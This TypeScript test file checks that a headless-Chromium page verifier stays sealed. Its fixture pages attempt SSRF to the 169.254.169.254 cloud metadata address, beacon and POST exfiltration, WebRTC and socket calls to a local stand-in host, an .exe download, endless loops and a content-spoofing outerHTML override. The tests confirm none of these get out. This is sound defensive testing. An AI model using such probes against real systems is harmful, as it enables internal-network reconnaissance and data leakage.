/** Pages that scripts draw, in real Chromium: read where the registry says so, whatever they try, and nothing leaves the browser by itself. */

import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { appendFileSync, readFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { BROWSER_PACKAGE } from '../../src/adapters/fetch/chromium.ts';
import { visitShape } from '../../src/core/contract/visit.ts';
import type { Observation } from '../../src/core/verify/observation.ts';
import { openVerifier, type Verifier } from '../../src/faces/wiring-verify.ts';
import { verifySources } from '../../src/workflows/verify-sources.ts';
import { madePage, madeQuote } from '../made-observation.ts';
import { type Play, type PlayingServer, startPlayingServer } from '../playing-server.ts';
import { pageOf, sendPage } from '../server-plays.ts';
import { copyRecord, DAY_ONE, startWatchedServer } from '../watched-registry.ts';
import { assay, scratch } from './command-line.ts';

const QUOTE = 'Inputs are deleted after 30 days.';
const CHANGED = 'Inputs are deleted after 90 days.';
const TODAY = '2026-07-05';
const AROUND =
  'This page says how long data is kept by the service, who may read it, and what a customer can do about it. ' +
  'It is part of the documentation and holds for all plans. The contract may say more for customers who signed one.';

/** Short where nothing is waited for, long where a busy machine must not be taken for a page that is slow. */
const QUICK = { lookMs: 300, mostLooks: 12, drawMs: 15_000, mostParts: 12, maxLength: 3_000_000 };

/** A page without words, whose script has `say(sentence)` to draw them. `OTHER` is the address of the server that nobody may reach. */
function drawnBy(script: string, head = ''): Play {
  return (exchange) => {
    const body = `<!doctype html><html><head><title>Docs</title>${head}</head><body><div id="root"></div>
<noscript>You need to enable JavaScript to run this app.</noscript><script>
const say = (sentence) => { root.innerHTML = '<h1>Data retention</h1><p>${AROUND}</p><p>' + sentence + '</p>'; };
const attempt = (what) => { try { what(); } catch {} };
const place = (markup) => document.body.insertAdjacentHTML('beforeend', markup);
const QUOTE = '${QUOTE}';
${script}
</script></body></html>`.replaceAll('OTHER', other.host);
    sendPage(exchange, { body });
  };
}

type Row = readonly [sentence: string, name: string, outcome: string, why: string | null, play: Play];

const FOUND: readonly Row[] = [
  ['words that a script draws', 'inline', 'found', null, drawnBy('say(QUOTE)')],
  ['words that come as data', 'data', 'found', null, drawnBy("fetch('/words').then((a) => a.json()).then(say)")],
  [
    'words that come late, by a script that waits for its styles',
    'late',
    'found',
    null,
    drawnBy(
      '',
      '<link rel="stylesheet" href="/style.css" onload="load()"><script>const load = () => { const s = document.createElement("script"); s.src = "/late.js"; document.head.append(s); }</script>',
    ),
  ],
  [
    'fetches of addresses that are private',
    'fetches',
    'found',
    null,
    drawnBy(`const all = ['http://169.254.169.254/latest/meta-data/', 'http://OTHER/', 'http://[::1]:80/', 'http://localhost/', 'http://0x7f.1/'];
      Promise.allSettled(all.map((url) => fetch(url, { mode: 'no-cors' }))).then((ends) => {
        if (ends.every(({ status }) => status === 'rejected')) say(QUOTE); });
      navigator.sendBeacon('http://OTHER/'); const x = new XMLHttpRequest(); x.open('POST', 'http://OTHER/'); x.send('a');`),
  ],
  [
    'a redirect of its own host to an address that is private',
    'redirected',
    'found',
    null,
    drawnBy("fetch('/to-other').catch(() => say(QUOTE))"),
  ],
  [
    'sockets and streams',
    'sockets',
    'found',
    null,
    drawnBy(`attempt(() => new WebSocket('ws://OTHER/')); attempt(() => new EventSource('http://OTHER/'));
      attempt(() => new WebTransport('https://OTHER/')); say(QUOTE);`),
  ],
  [
    'calls from browser to browser',
    'calls',
    'found',
    null,
    drawnBy(`const frame = document.createElement('iframe'); document.body.append(frame);
      for (const home of [globalThis, frame.contentWindow]) attempt(() => {
        const call = new home.RTCPeerConnection({ iceServers: [{ urls: 'stun:OTHER' },
          { urls: ['turn:OTHER?transport=tcp', 'turn:OTHER?transport=udp'], username: 'a', credential: 'b' }] });
        call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer)); });
      say(QUOTE);`),
  ],
  [
    'frames, pictures, sounds and fonts from elsewhere',
    'frames',
    'found',
    null,
    drawnBy(`say(QUOTE); place('<iframe src="http://OTHER/"></iframe><iframe srcdoc="<img src=http://OTHER/>"></iframe><img src="http://OTHER/a.png">'
      + '<video src="http://OTHER/v"></video><audio src="http://OTHER/a"></audio><object data="http://OTHER/o"></object><embed src="http://OTHER/e">'
      + '<style>@import "http://OTHER/i.css"; @font-face { font-family: F; src: url(http://OTHER/f) } p { font-family: F; background: url(http://OTHER/b) }</style>');`),
  ],
  [
    'what is fetched in advance',
    'advance',
    'found',
    null,
    drawnBy(
      'say(QUOTE)',
      `<link rel="preconnect" href="http://OTHER"><link rel="dns-prefetch" href="//OTHER"><link rel="prefetch" href="http://OTHER/p">
       <link rel="preload" as="script" href="http://OTHER/s"><link rel="modulepreload" href="http://OTHER/m"><link rel="manifest" href="http://OTHER/w"><link rel="icon" href="http://OTHER/i">
       <script type="speculationrules">{"prerender":[{"source":"list","urls":["/inline"]}],"prefetch":[{"source":"list","urls":["http://OTHER/"]}]}</script>`,
    ),
  ],
  [
    'a refresh to elsewhere, which is said of the page and not followed',
    'refresh',
    'moved',
    'refresh',
    drawnBy('say(QUOTE); place(\'<meta http-equiv=refresh content="0; url=http://OTHER/">\')'),
  ],
  ['an address that is left', 'leaves', 'found', null, drawnBy("say(QUOTE); location = 'http://OTHER/'")],
  [
    'an address that is left for the service of a cloud',
    'leaves-cloud',
    'found',
    null,
    drawnBy("say(QUOTE); location.replace('http://169.254.169.254/')"),
  ],
  [
    'a form that sends itself',
    'form',
    'found',
    null,
    drawnBy(`say(QUOTE); place('<form action="http://OTHER/" method="post"></form>'); document.forms[0].submit()`),
  ],
  [
    'workers of all kinds',
    'workers',
    'found',
    null,
    drawnBy(`const code = URL.createObjectURL(new Blob(["fetch('http://OTHER/'); new WebSocket('ws://OTHER/'); importScripts('http://OTHER/')"]));
      attempt(() => new Worker(code)); attempt(() => new SharedWorker(code)); attempt(() => new Worker('/worker.js'));
      attempt(() => navigator.serviceWorker.register('/worker.js').catch(() => 0)); say(QUOTE);`),
  ],
  [
    'questions to a person',
    'dialogs',
    'found',
    null,
    drawnBy('alert(1); confirm(2); prompt(3); print(); onbeforeunload = () => 1; say(QUOTE)'),
  ],
  [
    'windows and downloads',
    'windows',
    'found',
    null,
    drawnBy(`open('http://OTHER/'); open('/inline'); say(QUOTE);
      place('<a id="a" download="a.exe" href="http://OTHER/a.exe"></a><a id="b" target="_blank" rel="noopener" href="http://OTHER/"></a><a id="c" download href="data:text/plain,a"></a>');
      a.click(); b.click(); c.click();`),
  ],
  [
    'permissions that are asked for',
    'permissions',
    'found',
    null,
    drawnBy(
      `navigator.geolocation.getCurrentPosition(() => {}, () => say(QUOTE)); attempt(() => Notification.requestPermission());`,
    ),
  ],
  [
    'an address that a script writes',
    'writes-address',
    'found',
    null,
    drawnBy("history.pushState({}, '', '/docs/2'); say(QUOTE)"),
  ],
  [
    'a clock that never stands still',
    'clock',
    'found',
    null,
    drawnBy('say(QUOTE); setInterval(() => { document.title = performance.now() }, 20)'),
  ],
  [
    'data without end',
    'polls',
    'found',
    null,
    drawnBy("say(QUOTE); const poll = (n) => fetch('/polled?' + n).finally(() => poll(n + 1)); poll(0)"),
  ],
];

const OTHERS: readonly Row[] = [
  ['a number that has changed in the data', 'changed', 'altered', null, drawnBy(`say('${CHANGED}')`)],
  ['words that are drawn and hidden', 'hidden', 'absent', null, drawnBy("say('<span hidden>' + QUOTE + '</span>')")],
  [
    'a script that changes what looking at the page means',
    'lies',
    'absent',
    null,
    drawnBy(
      `say('Ask us.'); Object.defineProperty(Element.prototype, 'outerHTML', { get: () => '<html><p>${AROUND}</p>' + QUOTE });`,
    ),
  ],
  ['a script that draws nothing', 'nothing', 'unreadable', 'needs_script', drawnBy('')],
  ['a script that never ends', 'endless', 'unreadable', 'too_slow', drawnBy('say(QUOTE); while (true) {}')],
  [
    'a script that never ends once the page is there',
    'endless-later',
    'unreadable',
    'too_slow',
    drawnBy('say(QUOTE); setTimeout(() => { while (true) {} }, 20)'),
  ],
  [
    '50 MB of markup',
    'large',
    'unreadable',
    'too_large',
    drawnBy("say(QUOTE); root.append('word '.repeat(10_000_000))"),
  ],
  [
    'a page that leaves for nowhere',
    'nowhere',
    'unreadable',
    'broken',
    drawnBy("say(QUOTE); location = 'about:blank'"),
  ],
  [
    'data that robots.txt closes',
    'closed',
    'unreadable',
    'parts_missing',
    drawnBy("say('Loading the rest.'); fetch('/kept/words').then((a) => a.json()).then(say)"),
  ],
  [
    'data that is only given to those who send something',
    'posts',
    'unreadable',
    'parts_missing',
    drawnBy("say('Loading the rest.'); fetch('/words', { method: 'POST' }).then((a) => a.json()).then(say)"),
  ],
  [
    'data that a server refuses',
    'refused',
    'unreadable',
    'parts_missing',
    drawnBy("say('Loading the rest.'); fetch('/status/403').then((a) => a.json()).then(say)"),
  ],
  [
    'a wall that a browser would pass',
    'wall',
    'challenge',
    'bot-wall',
    (exchange) =>
      sendPage(exchange, {
        body: `<!doctype html><title>Just a moment...</title><script src="/cdn-cgi/challenge-platform/h/b/orchestrate/jsch/v1"></script><script>document.title = 'Docs'; document.body.innerHTML = '${AROUND} ${QUOTE}'</script>`,
        headers: { 'cf-mitigated': 'challenge' },
      }),
  ],
];

const ROWS = [...FOUND, ...OTHERS];
const NAMED: Row = ['', 'unnamed', 'unreadable', 'needs_script', drawnBy('say(QUOTE)')];
const SENT: Play = (exchange) =>
  sendPage(exchange, {
    body: `<!doctype html><title>Docs</title><p>${AROUND}</p><p>${QUOTE}</p><script src="/never.js"></script>`,
  });

let server: PlayingServer;
let other: Stranger;
let verifier: Verifier;
const seen = new Map<string, Observation>();
const bodies = new Map<string, string>();

/** A server on a port that nobody may reach: it counts who comes, by TCP and by UDP. */
interface Stranger {
  readonly host: string;
  readonly counts: { tcp: number; udp: number };
  readonly close: () => void;
}

async function openStranger(): Promise<Stranger> {
  const counts = { tcp: 0, udp: 0 };
  const tcp: Server = createServer((socket) => {
    counts.tcp += 1;
    socket.on('error', () => undefined).end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\n\r\n');
  });
  await new Promise<void>((done) => tcp.listen(0, '127.0.0.1', done));
  const { port } = tcp.address() as AddressInfo;
  const udp: UdpSocket = createSocket('udp4', () => {
    counts.udp += 1;
  });
  await new Promise<void>((done) => udp.bind(port, '127.0.0.1', done));
  const close = () => {
    tcp.close();
    udp.close();
  };
  return { host: `127.0.0.1:${port}`, counts, close };
}

beforeAll(async () => {
  other = await openStranger();
  const json = (text: string) =>
    pageOf(JSON.stringify(text), { 'content-type': 'application/json', 'set-cookie': 'a=1' });
  server = await startPlayingServer({
    plays: {
      'robots.txt': pageOf('User-agent: *\nDisallow: /kept/\n', { 'content-type': 'text/plain' }),
      words: json(QUOTE),
      kept: json(QUOTE),
      polled: json(''),
      'late.js': pageOf('setTimeout(() => say(QUOTE), 100)', { 'content-type': 'text/javascript' }),
      'to-other': ({ response }) => response.writeHead(302, { location: `http://${other.host}/` }).end(),
      sent: SENT,
      begins: drawnBy("fetch('/words?begun').then(() => { while (true) {} })"),
      ...Object.fromEntries([...ROWS, NAMED].map(([, name, , , play]) => [name, play])),
    },
  });
  verifier = await openWith();
  const endless = ROWS.flatMap(([, name, , why]) => (why === 'too_slow' ? [name] : []));
  const others = ROWS.flatMap(([, name]) => (endless.includes(name) ? [] : [name]));
  await visit([...others, 'unnamed', 'sent'], verifier);
  const impatient = await openWith({ browser: { limits: { ...QUICK, drawMs: 1_500 } } });
  await visit(endless, impatient);
  await impatient.close();
}, 180_000);

afterAll(async () => {
  await verifier.close();
  await server.close();
  other.close();
});

type Browser = Parameters<typeof openVerifier>[2] & { readonly browser?: object };

function openWith({ browser, ...lent }: Browser = {}): Promise<Verifier> {
  const settings = { allowHost: [server.host], concurrency: 16, archive: false as const };
  const isScriptDrawn = (url: string) => !url.endsWith('/unnamed');
  return openVerifier(settings, TODAY, {
    isScriptDrawn,
    browser: { limits: QUICK, isRoot: true, ...browser },
    ...lent,
  });
}

async function visit(names: readonly string[], { capabilities }: Verifier): Promise<void> {
  const pages = names.map((name) => madePage([madeQuote(QUOTE)], `${server.origin}/${name}`));
  const keep = async (observation: Observation, { body }: { readonly body: Uint8Array | null }) => {
    seen.set(observation.url, observation);
    bodies.set(observation.url, Buffer.from(body ?? []).toString());
    return 0;
  };
  const isOnline = async () => true;
  const means = { ...capabilities, isOnline, keep, listHistory: async () => [], report: () => undefined };
  await verifySources(pages, { today: TODAY, concurrency: 16 }, means);
}

function seenAt(name: string): Observation {
  const observation = seen.get(`${server.origin}/${name}`);
  if (!observation) throw new Error(`Nothing was seen at ${name}.`);
  return observation;
}

const askedFor = (path: string) => server.asked.filter((each) => each.path === path);

describe('what a visit comes to', () => {
  test.each(ROWS)('%s', (_, name, outcome, why) => {
    const observation = seenAt(name);
    const expected = why === null ? null : expect.stringContaining(why);
    expect([observation.outcome, observation.quotes[0]?.outcome, observation.why]).toEqual([
      outcome,
      outcome,
      expected,
    ]);
  });

  test('nothing but the fetcher reached anything: not one connection, not one packet', () => {
    expect(other.counts).toEqual({ tcp: 0, udp: 0 });
  });

  test('a page that the registry does not name is not opened', () => {
    const { outcome, why, drawn } = seenAt('unnamed');
    expect([outcome, why, drawn]).toEqual(['unreadable', 'needs_script', undefined]);
  });

  test('a page whose words were sent is not opened, and a wall is not either', () => {
    expect([seenAt('sent').outcome, seenAt('sent').drawn, askedFor('/never.js').length]).toEqual([
      'found',
      undefined,
      0,
    ]);
    expect(seenAt('wall').drawn).toBeUndefined();
  });
});

describe('what is drawn', () => {
  test('is said, hashed and kept as it was drawn', () => {
    const { drawn, bodyHash } = seenAt('data');
    expect([drawn, bodyHash === seenAt('inline').bodyHash]).toEqual([true, false]);
    expect(bodies.get(`${server.origin}/data`)).toContain(`<p>${QUOTE}</p>`);
  });

  test('takes one visit of the page, and parts under our name, without a cookie', () => {
    expect(askedFor('/data')).toHaveLength(1);
    for (const { headers } of server.asked) {
      expect(headers['user-agent']).toMatch(/^Assay\//);
      expect(headers.cookie).toBeUndefined();
    }
    expect(askedFor('/words')[0]?.headers.accept).toBe('*/*');
  });

  test('takes no more parts than a page may have, and none that robots.txt closes', () => {
    expect(server.asked.filter(({ path }) => path.startsWith('/polled'))).toHaveLength(QUICK.mostParts);
    expect(server.asked.filter(({ path }) => path.startsWith('/kept'))).toHaveLength(0);
    expect(askedFor('/style.css')).toHaveLength(0);
  });
});

describe('the registry', () => {
  const REGIONS = 'Customers choose between Dublin and Oslo when they create a project.';

  test.each([
    ['that names the page has it opened', '/tern/*', 'found'],
    ['that names another does not', '/larch/*', 'unreadable'],
  ])('%s', async (_, path, outcome) => {
    const folder = scratch();
    const watched = await startWatchedServer();
    try {
      watched.plays.set('/tern/regions', drawnBy(`say('${REGIONS}')`));
      const data = copyRecord(folder.path('data'), watched.host);
      appendFileSync(`${data}/registry.yaml`, `\nscript_drawn:\n  - "${watched.host}${path}"\n`);
      const where = ['--data', data, '--allow-host', watched.host, '--no-store', '--today', DAY_ONE];
      const ran = await assay(['verify', 'tern-host', ...where, '--json']);
      const lines = ran.out.split('\n').filter((line) => line.includes('/tern/regions'));
      const visit = visitShape.parse(JSON.parse(lines[0] ?? ''));
      expect([ran.code, ran.err, lines.length, visit.outcome]).toEqual([0, '', 1, outcome]);
    } finally {
      await watched.close();
      folder.remove();
    }
  });
});

describe('a browser', () => {
  test('is driven by the package that the lock file has, and people are told of that one', () => {
    const { devDependencies } = JSON.parse(readFileSync('package.json', 'utf8'));
    expect(BROWSER_PACKAGE).toBe(`playwright-core@${devDependencies['playwright-core']}`);
    expect(readFileSync('docs/operating.md', 'utf8')).toContain(BROWSER_PACKAGE);
  });

  test('that is not there is told once, and the pages stay unread', async () => {
    const told: string[] = [];
    const warn = (text: string) => void told.push(text);
    const bare = await openWith({ browser: { executable: '/usr/bin/no-such-browser' }, warn });
    await visit(['inline', 'data'], bare);
    await bare.close();
    expect(['inline', 'data'].map((name) => [seenAt(name).outcome, seenAt(name).why])).toEqual([
      ['unreadable', 'needs_browser'],
      ['unreadable', 'needs_browser'],
    ]);
    expect(told).toEqual([expect.stringContaining(`apt-get install chromium, npm install ${BROWSER_PACKAGE}`)]);
  });

  test('that takes more memory than it may is ended', async () => {
    const limits = { ...QUICK, maxMemoryBytes: 1_000_000, memoryLookMs: 10 };
    const small = await openWith({ browser: { limits } });
    await visit(['clock'], small);
    await small.close();
    expect([seenAt('clock').outcome, seenAt('clock').why]).toEqual(['unreadable', 'too_large']);
  });

  test('ends with the verifier, and nothing is noted of the page under way', async () => {
    const ended = await openWith({ browser: { limits: { ...QUICK, drawMs: 60_000 } } });
    seen.clear();
    const visiting = visit(['begins'], ended).then(
      () => 'noted',
      () => 'given up',
    );
    await expect.poll(() => askedFor('/words?begun').length, { timeout: 15_000 }).toBe(1);
    await ended.close();
    expect(await visiting).toBe('given up');
    expect(seen.size).toBe(0);
  });
});
